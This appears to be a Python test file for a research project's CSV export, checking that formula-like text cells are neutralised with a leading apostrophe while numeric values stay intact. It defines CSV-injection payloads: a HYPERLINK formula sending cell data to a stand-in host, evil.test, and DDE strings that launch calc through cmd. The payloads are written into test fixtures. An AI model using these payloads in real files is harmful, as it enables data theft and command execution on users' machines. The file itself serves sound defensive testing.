"""No CSV the report writes holds a text cell a spreadsheet would run (issue 21, point 2): the
analyst's text and provider labels that look like formulas get OWASP's leading `'`; numbers,
negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import matplotlib.pyplot as plt
import pandas as pd
import pytest

from analysis import build, csvsafe, notebook
from analysis.themes import reentry_reintegration, rights_irregular

HYPERLINK = '=HYPERLINK("http://evil.test/?d="&A1,"Click for the source")'
CMD = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
DASH = "-2+3+cmd|' /C calc'!A0"


def _cells(path: Path) -> list[list[str]]:
    """The file's cells exactly as a spreadsheet receives them."""
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def _runnable(cell: str) -> bool:
    """Would a spreadsheet run this cell? (A plain number it shows as a number.)"""
    if not cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def _runnable_cells(folder: Path) -> list[tuple[str, str]]:
    return [(p.name, cell) for p in sorted(folder.rglob("*.csv"))
            for row in _cells(p) for cell in row if _runnable(cell)]


def test_text_cells_are_neutralised_and_numbers_kept():
    frame = pd.DataFrame({
        "label": [HYPERLINK, CMD, SUM, "\t=1+1", "\r=1+1", DASH, "-12.5", "Sea", None],
        "value": [-3.25, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0, -0.5, 7.0],
        "year": pd.array([2020, 2021, None, 2021, 2021, 2021, 2021, 2021, 2021], dtype="Int64"),
    })
    got = pd.read_csv(io.StringIO(csvsafe.csv_text(frame)), dtype={"label": str},
                      keep_default_na=False)
    assert got["label"].tolist() == [
        "'" + HYPERLINK, "'" + CMD, "'" + SUM, "'\t=1+1", "'\r=1+1", "'" + DASH,
        "-12.5",  # a number written as text is shown as that number: left alone
        "Sea", ""]
    # numbers are untouched: a negative value is read back as the same negative number
    assert got["value"].tolist() == frame["value"].tolist()
    assert got["value"].dtype == "float64" and got.loc[0, "value"] == -3.25
    cells = list(csv.reader(io.StringIO(csvsafe.csv_text(frame), newline="")))
    assert [row[1:] for row in cells[1:4]] == [["-3.25", "2020"], ["1.0", "2021"], ["2.0", ""]]
    assert frame.loc[0, "label"] == HYPERLINK  # the caller's frame is not changed


def test_a_carriage_return_inside_a_cell_cannot_start_a_row():
    """A lone CR left unquoted would end the row there for a reader, and the text after it
    (a formula) would open the next row."""
    frame = pd.DataFrame({"label": ["Sea\r=1+1", "Land"], "value": [1.0, 2.0]})
    rows = list(csv.reader(io.StringIO(csvsafe.csv_text(frame), newline="")))
    assert rows == [["label", "value"], ["Sea\r=1+1", "1.0"], ["Land", "2.0"]]


@pytest.fixture
def hostile_root(fresh_copy):
    """A built project whose Frontex file names three routes with formulas, as a hostile or
    broken provider workbook could (route labels are free text read from the workbook)."""
    path = fresh_copy.raw_file("frontex", "illegal_border_crossings.csv")
    rows = pd.read_csv(path, dtype=str, keep_default_na=False)
    rows["route"] = rows["route"].replace({"Central Mediterranean Route": HYPERLINK,
                                           "Western Balkan Route": CMD,
                                           "Eastern Mediterranean Route": SUM})
    rows.to_csv(path, index=False, lineterminator="\n")
    build.run_build(fresh_copy)
    return fresh_copy


def test_hostile_analyst_and_provider_text_reaches_no_csv_as_a_formula(
        hostile_root, tmp_path, monkeypatch):
    monkeypatch.setenv("ANALYSIS_ROOT", str(hostile_root.root))
    bans = tmp_path / "bans.csv"
    bans.write_text("year,iso3,value,source,note\n"
                    f'2019,TJK,120,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",{CMD}\n'
                    f"2020,TJK,80,{SUM},\n"
                    "2021,TJK,95,Ministry of Internal Affairs,-\n", encoding="utf-8")
    out = tmp_path / "out"
    try:
        nb = notebook.start_theme("reentry_reintegration", states=["TJK", "KGZ"],
                                  first_year=2015, last_year=2021, output_dir=out,
                                  formats=["png"], record_file=tmp_path / "bans.json")
        nb.publish(reentry_reintegration.reentry_bans(nb, str(bans)))
        nb = notebook.start_theme("rights_irregular", output_dir=out, formats=["png"],
                                  record_file=tmp_path / "routes.json")
        nb.publish(rights_irregular.crossing_routes(nb, rights_irregular.detections(nb)))
    finally:
        plt.close("all")

    figures = {f["name"]: f for run in ("bans", "routes")
               for f in json.loads((tmp_path / f"{run}.json").read_text())["figures"]}
    header, *ban_cells = _cells(out / figures["reentry_bans"]["data"]["csv"])
    at = {column: header.index(column) for column in ("source", "year", "value")}
    sources = {r[at["source"]] for r in ban_cells}  # each row's source, as the file cites it
    assert sources == {"'" + HYPERLINK, "'" + SUM, "Ministry of Internal Affairs"}
    values = {r[at["year"]]: float(r[at["value"]]) for r in ban_cells}  # still numbers
    assert values == {"2019": 120.0, "2020": 80.0, "2021": 95.0}
    header, *routes = _cells(out / figures["eu_irregular_crossings_by_route"]["data"]["csv"])
    route_cells = {r[header.index("category")] for r in routes}
    assert {"'" + HYPERLINK, "'" + CMD, "'" + SUM} <= route_cells
    assert _runnable_cells(out) == []
